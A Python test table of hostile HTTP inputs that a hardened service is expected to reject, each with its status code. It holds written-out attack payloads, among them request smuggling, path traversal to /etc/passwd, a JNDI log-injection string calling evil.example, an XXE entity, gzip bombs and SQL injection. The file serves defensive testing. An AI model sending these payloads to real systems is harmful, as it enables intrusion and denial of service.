"""The table: what is sent, and the status that comes back; 0 is a connection cut without a word.

The server that is asked has the limits of `LIMITS`, so that little is enough to exceed them.
"""

import gzip
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from tests.service.hostile.wire import head, request

LIMITS: dict[str, Any] = {
    "max_body_bytes": 200_000,
    "max_headers": 20,
    "max_header_bytes": 4_000,
    "max_pipelined_requests": 16,
    "max_held_bytes": 1_000_000,
    "max_discarded_bytes": 2_000_000,
    "header_seconds": 0.5,
    "body_seconds": 0.5,
    "unread_seconds": 0.5,
    "closing_seconds": 0.5,
}


@dataclass(frozen=True)
class Case:
    """One hostile input."""

    name: str
    raw: bytes
    status: int
    half_close: bool = False  # the client ends its side after it


def all_cases() -> list[Case]:
    """The table."""
    return [
        *first_lines(),
        *no_http(),
        *targets(),
        *headers(),
        *lengths(),
        *chunks(),
        *encodings(),
        *sizes(),
        *broken_json(),
        *huge_json(),
        *wrong_values(),
        *ended_early(),
    ]


VALID = b'{"histories": [["item 1", "item 2"]]}'
GET = "GET /health/live HTTP/1.1"
POST = "POST /v1/encode HTTP/1.1"


def first_lines() -> Iterator[Case]:
    """Request lines that are none of HTTP/1.1."""
    versions = (
        "HTTP/0.9 HTTP/1.2 HTTP/2.0 HTTP/3.0 HTTP/9.9 HTTP/11 HTTP/1 HTTP/1. HTTP/.1 HTTP/01.1 "
        "HTTP/1.01 HTTP/A.B HTTP/-1.1 http/1.1 HTTP HTTP\\1.1 HTP/1.1 HTTPS/1.1 RTSP/1.0 RTSP/1.1 "
        "RTSP/2.0 ICE/1.0 SIP/2.0 SPDY/3 1.1"
    )
    for version in versions.split():
        yield Case(f"version {version}", head(f"GET /health/live {version}", "Host: here"), 400)
    methods = "get GETT G PRI FOO DESCRIBE SETUP PLAY ANNOUNCE G\tET GÉT GET:"
    for method in methods.split(" "):
        yield Case(f"method {method!r}", head(f"{method} / HTTP/1.1", "Host: here"), 400)
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "MKCOL", "PURGE", "BREW"):
        status = 400 if method == "BREW" else 405
        line = f"{method} /v1/encode HTTP/1.1"
        yield Case(f"method {method}", head(line, "Host: here"), status)
    yield Case("CONNECT", head("CONNECT evil.example:443 HTTP/1.1", "Host: evil.example"), 405)
    yield Case("HTTP/0.9", b"GET /health/live\r\n\r\n", 400)
    yield Case("no target", head("GET HTTP/1.1", "Host: here"), 400)
    yield Case("two targets", head("GET / / HTTP/1.1", "Host: here"), 400)
    yield Case("bare line feeds", b"GET /health/live HTTP/1.1\nHost: here\n\n", 400)
    yield Case("space before the method", head(f" {GET}", "Host: here"), 400)


def no_http() -> Iterator[Case]:
    """Other protocols, and noise."""
    yield Case("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400)
    yield Case("TLS", bytes.fromhex("16030100c8010000c40303") + bytes(range(190)), 400)
    yield Case("SSH", b"SSH-2.0-OpenSSH_9.6\r\n", 400)
    yield Case("SMTP", b"EHLO mail.example\r\n", 400)
    yield Case("Redis", b"*1\r\n$4\r\nPING\r\n", 400)
    yield Case("memcached", b"stats\r\n", 400)
    yield Case("PROXY protocol", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + request(VALID), 400)
    yield Case("PROXY protocol, version 2", b"\r\n\r\n\0\r\nQUIT\n" + bytes(16), 400)
    yield Case("an answer", b"HTTP/1.1 200 OK\r\n\r\n", 400)
    yield Case("JSON", VALID, 400)
    yield Case("zeros", bytes(1000), 400)
    yield Case("every byte", bytes(range(256)), 400)
    yield Case("high bytes", b"\xff" * 1000, 400)
    yield Case("SOCKS", b"\x05\x01\x00", 400)
    yield Case("RDP", bytes.fromhex("030000130ee000000000000100080003000000"), 400)


def targets() -> Iterator[Case]:
    """Paths that scanners try, and some that are none."""
    unknown = (
        "/v1 /v1/ /v1/encode/ /v1//encode //v1/encode /v1/encode/../score /V1/ENCODE "
        "/../../etc/passwd /%2e%2e/%2e%2e/etc/passwd /..%5c..%5cwindows /v1/encode%00 "
        "/v1/encode;x=1 /.git/config /.env /wp-login.php /admin /%ff%fe /%zz "
        "/v1/%65ncode%2f /health /health/live/.. /metrics/x /docs/../v1/encode"
    )
    for path in unknown.split():
        yield Case(f"path {path}", request(VALID, path=path), 404)
    yield Case("a body for the page", request(VALID, path="/"), 405)
    yield Case("a long path", request(VALID, path="/" + "x" * 3_000), 404)
    yield Case("log injection", request(VALID, path="/${jndi:ldap://evil.example/a}"), 404)
    for name, target in (
        ("a zero byte", b"/\0"),
        ("a control byte", b"/\x01"),
        ("a delete byte", b"/\x7f"),
        ("bytes beyond ASCII", b"/\xc3\xa9"),
        ("no slash", b"health/live"),
        ("a bracket", b"[::1"),
        ("only a query", b"?a=b"),
        ("only a fragment", b"#a"),
        ("a port that is none", b"http://here:99999999/"),
    ):
        yield Case(f"target: {name}", head(b"GET " + target + b" HTTP/1.1", "Host: here"), 400)
    for path, method in (("/health/live", "POST"), ("/metrics", "POST"), ("/v1/models", "PUT")):
        yield Case(f"{method} {path}", request(VALID, path=path, method=method), 405)


def headers() -> Iterator[Case]:
    """Headers that are none, too many, too large, or missing."""
    for character in '"(),/;<=>?@[]{}\\ \t\0\x01\x7f\xe9':
        line = f"X{character}Y: 1"
        yield Case(f"header name with {character!r}", head(GET, "Host: here", line), 400)
    for character in "\0\x01\x07\x08\x0b\x0c\x1b\x7f":
        line = f"X: a{character}b"
        status = 400
        yield Case(f"header value with {character!r}", head(GET, "Host: here", line), status)
    yield Case("no colon", head(GET, "Host: here", "nothing"), 400)
    yield Case("no name", head(GET, "Host: here", ": value"), 400)
    yield Case("space before the colon", head(GET, "Host : here"), 400)
    yield Case("a folded header", head(GET, "Host: here", "X: a", " b"), 400)
    yield Case("a folded first header", head(GET, " Host: here"), 400)
    yield Case("a bare line feed", b"GET / HTTP/1.1\r\nHost: here\nX: 1\r\n\r\n", 400)
    yield Case("a bare carriage return", b"GET / HTTP/1.1\r\nHost: here\rX: 1\r\n\r\n", 400)
    yield Case("a carriage return in a value", b"GET / HTTP/1.1\r\nHost: a\rb\r\n\r\n", 400)
    yield Case("no host", head(GET), 400)
    yield Case("two hosts", head(GET, "Host: here", "Host: there"), 400)
    yield Case("the same host twice", head(GET, "Host: here", "host: here"), 400)
    yield Case("21 headers", head(GET, "Host: here", *["X: 1"] * 20), 431)
    yield Case("1,000 headers", head(GET, "Host: here", *["X: 1"] * 1_000), 431)
    yield Case("a large header", head(GET, "Host: here", "X: " + "x" * 4_000), 431)
    yield Case("a large name", head(GET, "Host: here", "X" * 4_000 + ": x"), 431)
    yield Case("a large cookie", head(GET, "Host: here", "Cookie: a=" + "x" * 9_000), 431)
    yield Case("a large address", request(VALID, path="/v1/encode?" + "x" * 4_000), 431)
    yield Case("headers without end", b"GET / HTTP/1.1\r\n" + b"X: 1\r\n" * 50_000, 431)
    yield Case("a header of a megabyte", b"GET / HTTP/1.1\r\nX: " + b"x" * 1_000_000, 431)
    yield Case("a name of a megabyte", b"GET / HTTP/1.1\r\n" + b"X" * 1_000_000, 431)
    yield Case("an address of a megabyte", b"GET /" + b"x" * 1_000_000, 431)
    yield Case("a method of a megabyte", b"G" * 1_000_000, 400)


def lengths() -> Iterator[Case]:
    """Lengths that servers understand differently, and so smuggle requests past each other."""
    numbers = "-1 +5 0x5 5a a5 5.0 1e3 5,5 5,6 ½ \u0665 0b1 5; 18446744073709551616 1" + "0" * 30
    for number in numbers.split():
        length = f"Content-Length: {number}".encode()
        yield Case(f"content-length {number}", head(POST, "Host: here", length) + b"{}   ", 400)
    yield Case("content-length 5 5", head(POST, "Host: here", "Content-Length: 5 5") + b"{}", 400)
    yield Case("no content-length", head(POST, "Host: here", "Content-Length:") + b"{}", 400)
    for second in ("37", "36", "0"):
        lines = (f"Content-Length: {len(VALID)}", f"Content-Length: {second}")
        yield Case(f"two lengths, {second}", head(POST, "Host: here", *lines) + VALID, 400)
    both = ("Content-Length: 6", "Transfer-Encoding: chunked")
    smuggled = b"0\r\n\r\n" + head("GET /metrics HTTP/1.1", "Host: here")
    yield Case("length, then chunks", head(POST, "Host: here", *both) + smuggled, 400)
    yield Case("chunks, then length", head(POST, "Host: here", *both[::-1]) + smuggled, 400)
    for coding in (
        "identity", "gzip", "deflate", "gzip, chunked", "chunked, gzip", "chunked, identity",
        "chunked, chunked", "xchunked", "chunked;q=1", '"chunked"', "\tgzip", "chunk",
        "chunked x", ",", "chunked,", "nothing", "trailers",
    ):  # fmt: skip
        line = f"Transfer-Encoding: {coding}"
        yield Case(f"transfer-encoding {coding!r}", head(POST, "Host: here", line) + smuggled, 400)
    twice = ("Transfer-Encoding: chunked", "Transfer-Encoding: identity")
    yield Case("chunked and identity", head(POST, "Host: here", *twice) + smuggled, 400)
    yield Case("identity and chunked", head(POST, "Host: here", *twice[::-1]) + smuggled, 400)
    spaced = "Transfer-Encoding : chunked"
    yield Case("a space in between", head(POST, "Host: here", spaced) + smuggled, 400)
    folded = ("Transfer-Encoding:", " chunked")
    yield Case("a folded coding", head(POST, "Host: here", *folded) + smuggled, 400)
    hidden = "Transfer-Encoding:\x0bchunked"
    yield Case("a hidden coding", head(POST, "Host: here", hidden) + smuggled, 400)


def chunks() -> Iterator[Case]:
    """Bodies in chunks that are none."""
    start = head(POST, "Host: here", "Transfer-Encoding: chunked")
    for size in ("-1", "+5", "0x5", "g", "", " ", " 5", "5 x", "FFFFFFFFFFFFFFFFFF", "½", "\0"):
        yield Case(f"chunk size {size!r}", start + size.encode() + b"\r\n{}   \r\n0\r\n\r\n", 400)
    yield Case("a chunk that is too short", start + b"8\r\n{}\r\n0\r\n\r\n\r\n", 400)
    yield Case("a chunk that is too long", start + b"1\r\n{}  \r\n0\r\n\r\n", 400)
    yield Case("bare line feeds around chunks", start + b"2\n{}\n0\n\n", 400)
    yield Case("no line after a chunk", start + b"2\r\n{}0\r\n\r\n", 400)
    yield Case("a trailer that is none", start + b"2\r\n{}\r\n0\r\nX Y: 1\r\n\r\n", 400)
    yield Case("a control byte in an extension", start + b"2;\x01\r\n{}\r\n0\r\n\r\n", 400)
    tiny = start + b"1\r\n \r\n" * 210_000
    yield Case("210,000 chunks of one byte", tiny, 413)
    yield Case("an extension without end", start + b"2;x=" + b"x" * 700_000, 413)
    yield Case("trailers without end", start + b"0\r\n" + b"X: 1\r\n" * 120_000, 413)


def encodings() -> Iterator[Case]:
    """Compressed bodies, small ones and bombs."""
    bomb = gzip.compress(bytes(10_000_000))
    for coding, body in (
        ("gzip", gzip.compress(VALID)),
        ("GZIP", gzip.compress(VALID)),
        ("x-gzip", gzip.compress(VALID)),
        ("deflate", zlib.compress(VALID)),
        ("br", b"\x0b\x02\x80{}\x03"),
        ("zstd", b"\x28\xb5\x2f\xfd\x04\x58\x11\x00\x00{}"),
        ("compress", b"\x1f\x9d\x90{}"),
        ("gzip, gzip", gzip.compress(bomb)),
        ("gzip, identity", bomb),
        ("aes128gcm", VALID),
        ("nonsense", VALID),
    ):
        yield Case(f"content-encoding {coding}", request(body, f"Content-Encoding: {coding}"), 415)
    yield Case("a bomb", request(bomb, "Content-Encoding: gzip"), 415)
    yield Case("a bomb that is not declared", request(bomb), 422)


def sizes() -> Iterator[Case]:
    """Bodies beyond the limit."""
    yield Case("a byte too many", request(b" " * 200_001), 413)
    yield Case("a megabyte", request(b" " * 1_000_000), 413)
    yield Case("a terabyte, announced", head(POST, "Host: here", f"Content-Length: {10**12}"), 413)
    expecting = ("Content-Length: 300000", "Expect: 100-continue")
    yield Case("announced, with 100-continue", head(POST, "Host: here", *expecting), 413)
    chunked = head(POST, "Host: here", "Transfer-Encoding: chunked")
    yield Case("chunks", chunked + b"40000\r\n" + b" " * 0x40000 + b"\r\n", 413)
    yield Case("to a path that is none", request(b" " * 1_000_000, path="/nowhere"), 404)
    yield Case("to a path that takes none", request(b" " * 1_000_000, path="/metrics"), 405)


def broken_json() -> Iterator[Case]:
    """What is no JSON."""
    for end in range(0, len(VALID), 2):
        yield Case(f"JSON cut after {end} bytes", request(VALID[:end]), 422)
    values = (
        "NaN", "Infinity", "-Infinity", "1.", ".5", "01", "+1", "0x10", "1e", "1_000", "--1", "''",
        "'a'", "a", "undefined", "True", "None", "/* */ 1", "1 // 2", "[1,]", "[,1]", "[1 2]",
        "{,}", '{"a"}', '{"a":}', '{"a":1,}', "{a:1}", "{1:1}", '"\\x41"', '"\\u12"', '"\\ud800"',
        '"\\udc00\\ud800"', '"\t"', '"\n"', '"\\"', '"', "]", "}", "(", "`", "1;",
    )  # fmt: skip
    for value in values:
        yield Case(f"JSON with {value!r}", in_history(value.encode()), 422)
    yield Case("a byte order mark", request(b"\xef\xbb\xbf" + VALID), 422)
    for coding in ("utf-16", "utf-16-le", "utf-32"):
        yield Case(f"JSON in {coding}", request(VALID.decode().encode(coding)), 422)
    for name, raw in (
        ("a lone byte", b"\xff"),
        ("an overlong form", b"\xc0\xaf"),
        ("a surrogate", b"\xed\xa0\x80"),
        ("beyond Unicode", b"\xf5\x80\x80\x80"),
        ("half a character", b"\xe2\x82"),
        ("a zero byte", b"\0"),
    ):
        yield Case(f"UTF-8 with {name}", in_history(b'"' + raw + b'"'), 422)
    for name, raw in (
        ("two documents", VALID * 2),
        ("a form", b"histories=item+1"),
        ("XML", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("a pickle", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01a\x94."),
        ("MessagePack", b"\x81\xa9histories\x91\x91\xa6item 1"),
        ("lines", VALID + b"\n" + VALID),
        ("zeros", bytes(100)),
        ("blanks", b" " * 100_000),
    ):
        yield Case(f"{name} in place of JSON", request(raw), 422)


def huge_json() -> Iterator[Case]:
    """JSON that makes a parser build much from little."""
    for depth in (5, 100, 1_000, 10_000, 90_000):
        opened, closed = b"[" * depth, b"]" * depth
        yield Case(f"{depth} lists in each other", in_history(opened + closed), 422)
        yield Case(f"{depth} lists that stay open", request(b'{"histories": ' + opened), 422)
    for depth in (5, 1_000, 20_000):
        objects = b'{"a":' * depth + b"1" + b"}" * depth
        yield Case(f"{depth} objects in each other", in_history(objects), 422)
    keys = b",".join(b'"%d":1' % number for number in range(15_000))
    yield Case("15,000 unknown keys", request(b"{" + keys + b"}"), 422)
    yield Case("15,000 keys in a history", request(b'{"histories":[{' + keys + b"}]}"), 422)
    many = b",".join([b'"items":[]'] * 15_000)
    yield Case("the same key 15,000 times", request(b'{"histories":[{' + many + b"}]}"), 422)
    escaped = b",".join(b'"%d\\\\":1' % number for number in range(15_000))
    yield Case("keys that end in backslashes", request(b'{"histories":[{' + escaped + b"}]}"), 422)
    for name, value, times in (
        ("empty histories", b"[]", 60_000),
        ("empty objects", b"{}", 60_000),
        ("named histories", b'{"items":[]}', 15_000),
        ("histories of one click", b"[1]", 45_000),
        ("nulls", b"null", 39_000),
        ("numbers", b"1", 99_000),
        ("strings", b'""', 60_000),
    ):
        body = b'{"histories":[' + b",".join([value] * times) + b"]}"
        yield Case(f"{times:,} {name}", request(body), 422)
    for name, value in (("clicks", b"1"), ("empty ids", b'""'), ("lists", b"[]")):
        body = b",".join([value] * 60_000)
        yield Case(f"60,000 {name} of a history", in_history(body), 422)
    for digits in (20, 400, 5_000, 150_000):
        yield Case(f"an integer of {digits:,} digits", in_history(b"9" * digits), 422)
        yield Case(f"a fraction of {digits:,} digits", in_history(b"1." + b"9" * digits), 422)
    for number in ("1e999", "1e999999999", "-1e999999999", "1e-999999999", "9223372036854775808"):
        yield Case(f"the number {number}", in_history(number.encode()), 422)
    yield Case("an id of 150,000 bytes", in_history(b'"' + b"x" * 150_000 + b'"', error=True), 422)
    yield Case("150,000 escapes", in_history(b'"' + b"\\n" * 75_000 + b'"', error=True), 422)


def wrong_values() -> Iterator[Case]:
    """Each kind of value where another one belongs."""
    kinds = ("1.5", "true", "{}", '""', "[[[]]]", '"' + "x" * 9_000 + '"', "-1")
    for field in ("histories", "attention", "encoding", "unknown_items"):
        for kind in (*kinds, "null"):
            body = b'{"histories": [], "%b": %b}' % (field.encode(), kind.encode())
            yield Case(f"{field} {kind[:9]}", request(body), 422)
    for field in ("model", "version"):
        for kind in ("1.5", "true", "{}", "[]", "-1"):
            body = b'{"histories": [], "%b": %b}' % (field.encode(), kind.encode())
            yield Case(f"{field} {kind}", request(body), 422)
        for text in ("", "../../etc", "x" * 9_000, "\\u0000", "' OR 1=1"):
            body = b'{"histories": [], "%b": "%b"}' % (field.encode(), text.encode())
            yield Case(f"{field} {text[:9]!r}", request(body), 404)
    for kind in ("1", "null", "true", '"a"', "{}", '{"items": 1}', '{"items": [], "id": []}'):
        body = b'{"histories": [%b]}' % kind.encode()
        yield Case(f"the history {kind}", request(body), 422)
    for kind in ("1", "null", '"a"', "{}", "[{}]", "[1.5]", "[[1], 2]", "[[], [], []]"):
        body = b'{"histories": [[]], "candidates": %b}' % kind.encode()
        yield Case(f"the candidates {kind}", request(body, path="/v1/score"), 422)


def ended_early() -> Iterator[Case]:
    """Clients that end their side, or stop, in the middle."""
    whole = request(VALID)
    for end in (1, 10, 30, 60, len(whole) - 20, len(whole) - 1):
        yield Case(f"ended after {end} bytes", whole[:end], 400, half_close=True)
        yield Case(f"stopped after {end} bytes", whole[:end], 408)
    chunked = head(POST, "Host: here", "Transfer-Encoding: chunked") + b"2\r\n{}"
    yield Case("ended in a chunk", chunked, 400, half_close=True)
    yield Case("stopped in a chunk", chunked, 408)
    yield Case("ended at once", b"", 0, half_close=True)
    yield Case("nothing", b"", 0)
    yield Case("empty lines", b"\r\n" * 500, 0)


def in_history(value: bytes, *, error: bool = False) -> bytes:
    """A request whose only history has this click."""
    rest = b', "unknown_items": "error"' if error else b""
    return request(b'{"histories": [["item 1", ' + value + b"]]" + rest + b"}")
